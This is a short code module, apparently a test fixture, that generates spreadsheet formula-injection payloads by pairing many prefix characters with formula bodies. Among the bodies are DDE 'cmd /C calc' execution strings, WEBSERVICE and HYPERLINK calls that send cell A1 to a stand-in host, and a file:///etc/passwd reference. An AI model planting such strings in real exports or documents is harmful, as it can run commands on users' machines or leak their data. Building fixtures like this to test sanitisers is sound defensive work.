/** Text that a spreadsheet which takes it for a formula would reckon with, fetch from elsewhere, or run. */
const BODIES = [
  '1+1',
  'SUM(1;2)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://elsewhere.example/?x="&A1;"Klik")',
  'WEBSERVICE("https://elsewhere.example/"&A1)',
  'IMPORTXML("https://elsewhere.example";"//a")',
  'DDE("cmd";"/C calc";"x")',
  'A1',
  "'file:///etc/passwd'#$Sheet1.A1",
  "MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe'!A0",
]
const BEGINNINGS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '==',
  '=-',
  '+=',
  '-=',
  '@=',
  '＝',
  '＋',
  '－',
  '＠',
  '=@',
  '\t\t=',
  '"=',
  '";=',
]

export const FORMULA_PAYLOADS: readonly string[] = BEGINNINGS.flatMap((beginning) =>
  BODIES.map((body) => `${beginning}${body}`),
)
